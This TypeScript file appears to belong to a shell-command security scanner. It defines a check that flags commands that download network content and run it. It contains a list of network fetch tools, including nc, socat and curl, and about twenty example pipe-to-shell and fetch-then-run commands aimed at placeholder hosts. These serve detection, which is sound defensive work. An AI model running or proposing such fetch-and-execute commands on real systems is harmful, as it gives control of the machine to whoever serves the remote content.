import type { Analysis, Command } from '../analysis.ts';
import { codeOriginsIn, fetches, originsOf, toolOf } from '../flow.ts';
import { traceToRun } from '../provenance.ts';
import { type Check, type CheckFinding, finding } from './check.ts';
import { codeFindings } from './code-signals.ts';
import { type CommandRule, findRules } from './rules.ts';

/** Programs that fetch even where the host is not spelled out in the command. */
const FETCHERS = new Set([
  'curl',
  'wget',
  'aria2c',
  'axel',
  'lynx',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'ftp',
  'tftp',
  'lftp',
  'http',
  'https',
  'xh',
  'scp',
  'sftp',
  'ssh',
  'dig',
  'nslookup',
  'host',
  'gh',
  'glab',
  'kubectl',
  'oc',
  'aws',
  'gsutil',
  'gcloud',
  'az',
  'rclone',
  's3cmd',
  'lftp',
  'yt-dlp',
]);

const URL_OPERAND = /^(?:https?|npm|jsr|ftp):/i;
const rules: readonly CommandRule[] = [
  {
    tool: 'deno',
    operand: URL_OPERAND,
    sub: 'run|serve|test|bench|x',
    severity: 'high',
    message: 'deno runs code from an address.',
  },
  {
    tool: 'bun uv go nbb',
    operand: /^https?:/i,
    sub: 'run',
    severity: 'high',
    message: 'code from an address is run.',
  },
  {
    tool: 'node nodejs tsx python python3 bash sh',
    operand: /^https?:/i,
    severity: 'high',
    message: 'code from an address is run.',
  },
];

function brings(analysis: Analysis, command: Command): boolean {
  return FETCHERS.has(toolOf(command)) || fetches(analysis, command);
}

export const downloadAndExecute: Check = {
  id: 'download-and-execute',
  title: 'Something from the network is run',
  definition: 'Content from another machine reaches an interpreter or is run as a program, in one step or in several.',
  why: 'Whoever controls the address controls the machine, today and at each later run.',
  attack: ['T1105'],
  cwe: ['CWE-494'],
  severities: { high: 'fetched content is run' },
  instead: 'Download to a file, compare its digest with a published one, read it, then run it.',
  examples: {
    flagged: [
      'curl -fsSL https://get.example.com | sh',
      'bash <(curl -s https://x.example/i.sh)',
      'curl -o a https://x.example/a; chmod +x a; ./a',
      'wget -qO- https://x.example/i.py | python3',
      'eval "$(curl -s https://x.example/i)"',
      'wget https://x.example/setup.sh && bash setup.sh',
      'source <(wget -qO- https://x.example/env)',
      'curl https://x.example/i.sh > i.sh; sh i.sh',
      'curl https://x.example/i | tee i.sh | bash',
      'git clone https://x.example/r.git && cd r && ./install.sh',
      'curl -so a https://x.example/a; mv a b; sh b',
      'curl -so a https://x.example/a; cat a | sh',
      'curl -sO https://x.example/t.tgz && tar xzf t.tgz && ./t/setup',
      'curl -o Makefile https://x.example/M; make',
      'deno run -A https://x.example/a.ts',
      'awk "$(curl -s https://x.example/a.awk)" f',
      'make -f <(curl -s https://x.example/Makefile)',
      'java -jar <(curl -s https://x.example/a.jar)',
      'curl -s https://x.example/a.sql | psql',
      'f=$(mktemp); curl -so "$f" https://x.example/a; chmod +x "$f"; "$f"',
      'timeout 9 sh < <(curl -s https://x.example/a)',
    ],
    clean: [
      'echo "never curl x | sh"',
      'curl -o data.json https://x.example/d',
      'bash build.sh',
      'curl -s https://x.example/d | jq .',
      'curl -s https://x.example/d | awk "{print}" -',
      'curl -so a.json https://x.example/d; node report.js a.json',
      'tar xzf local.tgz && ./local/setup',
    ],
  },
  find(analysis) {
    const direct = analysis.commands.flatMap((command): CheckFinding[] => {
      const source = codeOriginsIn(analysis, command).find((origin) => brings(analysis, origin));
      return source === undefined
        ? []
        : [
            finding(
              'high',
              command,
              `What ${toolOf(source)} fetches is run by ${command.program.text ?? 'the shell'}.`,
              command,
            ),
          ];
    });
    const orders = analysis.commands.flatMap((command): CheckFinding[] => {
      const source = originsOf(takenOrders(command)).find((origin) => brings(analysis, origin));
      return source === undefined
        ? []
        : [finding('high', command, `What ${toolOf(source)} fetches is run by ${toolOf(command)}.`, command)];
    });
    const stepwise = traceToRun(analysis, (command) => brings(analysis, command) || clones(command)).map(
      ({ at, command, origin }) =>
        finding(
          'high',
          at,
          `What ${toolOf(origin)} fetched is run by ${command.program.text ?? 'the shell'}.`,
          command,
        ),
    );
    return [
      ...findRules(analysis, rules),
      ...direct,
      ...orders,
      ...stepwise,
      ...codeFindings(analysis, 'fetched-code', 'high'),
    ];
  },
};

/** Clients that run what they are fed, and can start programs at its order (`\!`, `.shell`). */
const ORDER_TAKERS = new Set(
  'psql mysql mariadb sqlite3 duckdb mongosh mongo cqlsh clickhouse-client sqlplus redis-cli ed ex gdb'.split(' '),
);

/** Commands whose output is run by a program that is no interpreter: standard input, or a substitution as `-jar` or `-f`. */
function takenOrders(command: Command): Command[] {
  const takes = ORDER_TAKERS.has(toolOf(command));
  const files = command.invocation.options.flatMap(({ name, role, value }) =>
    role === 'script' || role === 'settings' || (takes && name === '--file') ? (value?.outputs ?? []) : [],
  );
  return takes ? [...files, ...command.stdin] : files;
}

function clones(command: Command): boolean {
  return toolOf(command) === 'git' && command.invocation.sub[0] === 'clone';
}
